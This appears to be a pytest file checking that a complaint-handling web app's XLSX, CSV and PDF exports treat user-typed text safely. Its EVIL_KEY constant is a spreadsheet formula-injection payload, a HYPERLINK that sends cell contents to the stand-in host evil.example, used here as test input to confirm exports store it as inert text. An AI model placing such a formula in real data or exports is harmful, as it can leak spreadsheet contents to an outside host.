"""Issue 11: exports of user-typed text. A business key "=HYPERLINK(...)" must be text in the
monthly report.xlsx and in every CSV; a process named "R&D <unclosed" must not break
report.pdf, which embeds a CJK TrueType font."""

from __future__ import annotations

import csv
import io
import logging

import pytest
from openpyxl import load_workbook

from tests.complaint_driver import REGISTER
from tests.test_ui_support import signed_in
from webapp.extensions import db
from webapp.models import Definition

EVIL_KEY = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def evil_world(app, users, deployed_complaints, make_client, run_worker):
    make_client("gm", ["general_manager"])
    r = users["agent"].post("/api/process-instances",
                            {"process_key": "complaint_handling", "data": REGISTER, "business_key": EVIL_KEY})
    assert r.status_code == 201, r.get_json()
    run_worker()
    for definition in db.session.scalars(db.select(Definition)):
        definition.name = "R&D <unclosed"
    db.session.commit()
    return r.get_json()


def test_xlsx_writes_formulas_as_text(app, evil_world):
    gm = signed_in(app, "gm")
    response = gm.client.get("/dashboard/report.xlsx?month=2026-03")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value == EVIL_KEY]
    assert cells, "the business key is in the export"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert not [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_pdf_escapes_markup_and_embeds_its_font(app, evil_world):
    gm = signed_in(app, "gm")
    response = gm.client.get("/dashboard/report.pdf?month=2026-03")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    assert b"FontFile2" in response.data  # an embedded TrueType font program
    assert b"WenQuanYi" in response.data


def test_pdf_falls_back_with_a_warning_without_a_font(app, evil_world, caplog, monkeypatch):
    from webapp.dashboard import exports

    monkeypatch.setattr(exports, "CJK_TTF_CANDIDATES", ())
    monkeypatch.setattr(exports, "EMBEDDED_FONT", "AftersalesCJK-missing")
    app.config["PDF_CJK_FONT"] = "/nonexistent/font.ttf"
    gm = signed_in(app, "gm")
    with caplog.at_level(logging.WARNING, logger="aftersales.exports"):
        response = gm.client.get("/dashboard/report.pdf?month=2026-03")
    assert response.status_code == 200 and b"STSong-Light" in response.data and b"FontFile2" not in response.data
    assert any("no CJK TrueType font" in r.getMessage() for r in caplog.records)


def test_audit_csv_writes_formulas_as_text(app, evil_world):
    auditor = signed_in(app, "auditor")
    response = auditor.client.get(f"/audit/cases/{evil_world['id']}/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    keys = {row[1] for row in rows[1:]}
    assert keys == {"'" + EVIL_KEY}
    # the JSON export keeps the value as stored
    document = auditor.client.get(f"/audit/cases/{evil_world['id']}/export.json").get_json()
    assert document["instance"]["business_key"] == EVIL_KEY
